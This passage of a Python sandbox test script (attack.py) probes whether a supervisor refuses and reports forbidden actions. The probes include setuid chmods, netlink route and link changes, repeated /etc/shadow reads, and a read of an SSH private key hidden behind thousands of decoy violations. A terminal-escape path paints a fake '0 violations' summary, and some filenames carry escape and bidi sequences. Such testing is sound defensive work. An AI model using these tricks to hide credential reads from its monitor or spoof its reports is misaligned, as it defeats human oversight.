    case("mode.setuid_chmod_high", lambda: sysc(90, cstr(out_file("m3")), 0o4755 | (1 << 32)))
    case("mode.setuid_fchmod", lambda: on_out_fd("m4", lambda fd: os.fchmod(fd, 0o6755)))
    case("mode.setuid_fchmodat", lambda: os.chmod("m5", 0o4700, dir_fd=os.open(os.path.dirname(out_file("m5")),
                                                                                os.O_RDONLY | os.O_DIRECTORY)))
    case("mode.setuid_fchmodat2", lambda: fchmodat2(out_file("m6"), 0o4755))
    case("mode.setuid_fchmodat2_nofollow", lambda: fchmodat2(out_file("m7"), 0o2755, AT_SYMLINK_NOFOLLOW))
    case("mode.setuid_fchmodat2_empty", lambda: fchmodat2_fd(out_file("m8"), 0o4755, writable=True))
    case("mode.setuid_fchmod_memfd", lambda: os.fchmod(os.memfd_create("suid"), 0o4755))
    case("mode.setuid_chmod_tmp", lambda: (open("/tmp/m9", "wb").close(), os.chmod("/tmp/m9", 0o4755))[1])
    # Set-id or not, outside fs.write: EACCES, reported (C2).
    case("mode.setuid_chmod_pack", lambda: os.chmod("/workdir/attack.py", 0o4755))
    case("mode.fchmodat2_pack", lambda: fchmodat2("/workdir/attack.py", 0o600))
    case("mode.fchmodat2_libc_nofollow", lambda: fchmodat2(lp, 0o600, AT_SYMLINK_NOFOLLOW))
    case("mode.fchmodat2_empty_pack", lambda: fchmodat2_fd("/workdir/attack.py", 0o600))
    case("mode.setxattrat_pack", lambda: setxattrat("/workdir/attack.py"))
    case("mode.setxattrat_libc_nofollow", lambda: setxattrat(lp, AT_SYMLINK_NOFOLLOW))
    case("mode.removexattrat_pack", lambda: sysc(NR_REMOVEXATTRAT, AT_FDCWD, cstr("/workdir/attack.py"), 0,
                                                  cstr("user.x")))
    case("mode.file_setattr_pack", lambda: file_attr(NR_FILE_SETATTR, "/workdir/attack.py"))
    case("mode.file_setattr_etc", lambda: file_attr(NR_FILE_SETATTR, "/etc/passwd"))
    # Inode changes through an fd opened for reading (ioctl): EACCES outside fs.write, reported;
    # a request with high bits set is the same request to the kernel.
    case("mode.ioctl_setflags_pack", lambda: on_ro_fd(lambda fd: fcntl.ioctl(fd, FS_IOC_SETFLAGS, struct.pack("=l", 0))))
    case("mode.ioctl_setflags_high_libc", lambda: on_ro_fd(lambda fd: sysc(16, fd, FS_IOC_SETFLAGS | (1 << 40),
                                                                            ctypes.byref(ctypes.c_long(0))), lp))
    case("mode.ioctl_fssetxattr_pack", lambda: on_ro_fd(lambda fd: fcntl.ioctl(fd, FS_IOC_FSSETXATTR, bytes(28))))
    case("mode.ok_ioctl_setflags_out", lambda: on_out_fd("n8", lambda fd: fcntl.ioctl(
        fd, FS_IOC_SETFLAGS, struct.pack("=l", 0)) and None))
    case("mode.ok_ioctl_getflags_pack", lambda: on_ro_fd(lambda fd: fcntl.ioctl(
        fd, FS_IOC_GETFLAGS, struct.pack("=l", 0)) and None))
    # Allowed counterparts: the kernel answers, nothing is reported.
    case("mode.ok_fchmodat2_out", lambda: fchmodat2(out_file("n1"), 0o640))
    case("mode.ok_fchmodat2_empty_out", lambda: fchmodat2_fd(out_file("n2"), 0o600, writable=True))
    case("mode.ok_sticky_chmod_out", lambda: os.chmod(out_file("n3"), 0o1644))
    case("mode.ok_fchmod_memfd", lambda: os.fchmod(os.memfd_create("plain"), 0o600))
    case("mode.eperm_setxattrat_out", lambda: setxattrat(out_file("n4")))
    case("mode.getxattrat_out", lambda: getxattrat(out_file("n5")))
    case("mode.file_getattr_out", lambda: file_attr(NR_FILE_GETATTR, out_file("n6")))
    case("mode.file_setattr_out", lambda: file_attr(NR_FILE_SETATTR, out_file("n7")))
    # clone3: a process is refused (EPERM) and reported; a thread gets ENOSYS (glibc falls back).
    case("mode.clone3_fork", lambda: clone3(0))
    case("mode.clone3_vfork", lambda: clone3(CLONE_VFORK))
    case("mode.clone3_thread", lambda: clone3(CLONE_THREAD | CLONE_VM | CLONE_SIGHAND))
    case("mode.clone3_bad_pointer", lambda: sysc(NR_CLONE3, 8, 88))
    case("mode.thread_still_works", lambda: (lambda t: (t.start(), t.join(), "joined")[2])(
        threading.Thread(target=lambda: None)))
    case("mode.out_modes", lambda: ",".join("%s:%o" % (n, os.stat("/workdir/out/" + n).st_mode & 0o7777)
                                            for n in ["m1", "m4", "m6", "m8", "n1", "n3"]))
    case("mode.alive", lambda: os.getpid())


def violation_flood(args):
    """Refuses itself as fast as it can for SECONDS: one path over and over, and distinct
    long paths (each a new resource), from several threads; prints how many it tried."""
    seconds = float(args[0]) if args else 5.0
    stop = time.time() + seconds
    counts = [0] * 4

    def loop(slot, distinct):
        n = 0
        pad = "y" * 3000
        while time.time() < stop:
            path = "/etc/shadow" if not distinct else "/etc/flood-%d-%d-%s" % (slot, n, pad)
            try:
                os.open(path, os.O_RDONLY)
            except OSError:
                pass
            n += 1
        counts[slot] = n

    # First, a path that is a terminal attack: erase the line, paint a fake summary, hide
    # what follows.
    try:
        os.open("/etc/\x1b[2K\x1b[1A\rsoyaos: run ok: 0 violations\x1b[8m", os.O_RDONLY)
    except OSError:
        pass
    threads = [threading.Thread(target=loop, args=(i, i % 2 == 1)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    report("flood.tried", "ok %d" % (sum(counts) + 1))


def decoys(args):
    """Hides one real read behind COUNT distinct decoy violations (issue #17: 1,000 decoys
    hid a ~/.ssh read): every decoy a new path in one directory, then the real one."""
    count = int(args[0]) if args else 20000
    for i in range(count):
        try:
            os.open("/srv/decoy-%d" % i, os.O_RDONLY)
        except OSError:
            pass
    try:
        os.open("/root/.ssh/id_ed25519", os.O_RDONLY)
        report("decoys.real", "opened")
    except OSError as e:
        report("decoys.real", errno.errorcode.get(e.errno, str(e.errno)))
    report("decoys.tried", "ok %d" % (count + 1))


def hostile_names(args):
    """Outputs whose names the supervisor must print and store safely: escape sequences,
    bidi overrides, bytes that are not UTF-8, and many uncollectable entries."""
    out = b"/workdir/out/"
    for name in [b"esc-\x1b[2J\x1b[31mFAKE", b"bidi-\xe2\x80\xaetxt.exe", b"latin1-\xe9t\xe9", b"bad-\xff\xfe"]:
        with open(out + name, "wb") as f:
            f.write(b"x")
    count = int(args[0]) if args else 300
    os.mkdir(out + b"fifos")
    for i in range(count):
        os.mkfifo(out + b"fifos/" + (b"f\xff-%d-" % i) + b"z" * 200)
    os.symlink(b"/etc/passwd", out + b"link-\x1b]0;title\x07-\xc3")
    report("names.made", "ok %d" % count)
# ---- NETLINK_ROUTE: allowed for getifaddrs(3), read-only for the agent -------------------

NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE, NLM_F_DUMP = 1, 4, 0x200, 0x400, 0x300


def rta(kind, data):
    n = 4 + len(data)
    return struct.pack("=HH", n, kind) + data + b"\0" * ((4 - n % 4) % 4)


def rtnl(msg_type, flags, body):
    """One rtnetlink request; the kernel's ack (or first answer) decides the outcome."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.settimeout(5)
        s.send(struct.pack("=IHHII", 16 + len(body), msg_type, flags, 1, 0) + body)
        data = s.recv(65536)
    length, typ = struct.unpack("=IH", data[:6])
    if typ == 2:  # NLMSG_ERROR: int error, then the request's header
        err = struct.unpack("=i", data[16:20])[0]
        if err < 0:
            raise OSError(-err, os.strerror(-err))
        return "acked"
    return "answered type %d" % typ


def rtnl_links():
    """RTM_GETLINK dump: the names and up/down state of the sandbox's interfaces."""
    out = []
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.settimeout(5)
        s.send(struct.pack("=IHHII", 32, 18, NLM_F_REQUEST | NLM_F_DUMP, 1, 0) + struct.pack("=BxHiII", 0, 0, 0, 0, 0))
        while True:
            data = s.recv(65536)
            off = 0
            while off + 16 <= len(data):
                length, typ = struct.unpack("=IH", data[off:off + 6])
                if typ == 3:  # NLMSG_DONE
                    return ",".join(sorted(out))
                if typ == 2:
                    err = struct.unpack("=i", data[off + 16:off + 20])[0]
                    raise OSError(-err, os.strerror(-err))
                flags = struct.unpack("=I", data[off + 24:off + 28])[0]
                a = off + 32
                while a + 4 <= off + length:
                    alen, akind = struct.unpack("=HH", data[a:a + 4])
                    if alen < 4:
                        break
                    if akind == 3:  # IFLA_IFNAME
                        out.append(data[a + 4:a + alen].rstrip(b"\0").decode() + (":up" if flags & 1 else ":down"))
                    a += (alen + 3) & ~3
                off += (length + 3) & ~3


def group_netlink(args):
    lo = 1
    v4 = socket.AF_INET
    ifaddr = lambda idx: struct.pack("=BBBBI", v4, 32, 0, 0, idx)  # noqa: E731
    rtm = lambda: struct.pack("=BBBBBBBBI", v4, 0, 0, 0, 254, 4, 0, 1, 0)  # noqa: E731 - main table, unicast
    case("netlink.getlink_dump", rtnl_links)
    case("netlink.getifaddrs", lambda: ",".join(sorted(n for _, n in socket.if_nameindex())))
    case("netlink.newaddr", lambda: rtnl(20, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL,
                                         ifaddr(lo) + rta(2, socket.inet_aton("10.9.9.9"))))
    case("netlink.deladdr", lambda: rtnl(21, NLM_F_REQUEST | NLM_F_ACK, ifaddr(lo) + rta(2, socket.inet_aton("127.0.0.1"))))
    case("netlink.newroute", lambda: rtnl(24, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE,
                                          rtm() + rta(4, struct.pack("=i", lo))))
    case("netlink.delroute", lambda: rtnl(25, NLM_F_REQUEST | NLM_F_ACK, rtm()))
    case("netlink.setlink_lo_down", lambda: rtnl(19, NLM_F_REQUEST | NLM_F_ACK, struct.pack("=BxHiII", 0, 0, lo, 0, 1)))
    case("netlink.newlink_dummy", lambda: rtnl(16, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL,
                                               struct.pack("=BxHiII", 0, 0, 0, 0, 0) + rta(3, b"evil0\0") +
                                               rta(18, rta(1, b"dummy"))))
    case("netlink.dellink_lo", lambda: rtnl(17, NLM_F_REQUEST | NLM_F_ACK, struct.pack("=BxHiII", 0, 0, lo, 0, 0)))
    case("netlink.newrule", lambda: rtnl(32, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, rtm()))
    case("netlink.newneigh", lambda: rtnl(28, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE,
                                          struct.pack("=BxxxiHBB", v4, lo, 0x80, 0, 0) + rta(1, socket.inet_aton("10.9.9.9"))))
    case("netlink.newqdisc", lambda: rtnl(36, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE,
                                          struct.pack("=BxxxiIII", 0, lo, 0, 0xFFFFFFFF, 0) + rta(1, b"noqueue\0")))
    # Every other netlink protocol stays refused at socket(): nftables, sock_diag, audit, ...
    case("netlink.netfilter", lambda: netlink_dump(12))
    case("netlink.sock_diag", lambda: netlink_dump(4))
    case("netlink.audit", lambda: netlink_dump(9))
    case("netlink.uevent", lambda: netlink_dump(15))
    case("netlink.generic", lambda: netlink_dump(16))
    case("netlink.netfilter_high", lambda: sysc(41, 16, 3, 12 | (1 << 32)))
    case("netlink.route_stream", lambda: sysc(41, 16, socket.SOCK_STREAM, 0))
    # After all of it, nothing changed.
    case("netlink.getlink_after", rtnl_links)


GROUPS = {"exec": group_exec, "seccomp": group_seccomp, "sweep": group_sweep, "observer": group_observer,
          "observer2": group_observer2, "fs": group_fs, "ipc": group_ipc, "resources": group_resources,
          "info": group_info, "net": group_net, "netstar": group_netstar,
          "report": group_report, "modes": group_modes, "vflood": violation_flood, "decoys": decoys, "names": hostile_names, "netlink": group_netlink}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in GROUPS:
        print("usage: attack.py GROUP [ARGS...]; groups: " + " ".join(sorted(GROUPS)))
        sys.exit(2)
    GROUPS[sys.argv[1]](sys.argv[2:])
    report("group.end", "ok")
